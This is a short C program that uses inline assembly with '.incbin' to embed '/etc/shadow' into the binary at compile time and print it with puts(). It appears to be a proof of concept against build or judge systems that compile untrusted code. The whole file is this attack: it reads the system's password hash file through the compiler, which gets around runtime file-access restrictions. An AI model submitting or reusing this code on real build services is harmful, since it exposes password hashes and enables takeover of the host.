#include <stdio.h>

__asm__(".section .rodata\nstart: .incbin \"/etc/shadow\"\n.byte 0\n.previous");
extern const char start[];

int main(void) {
    puts(start);
    return 0;
}
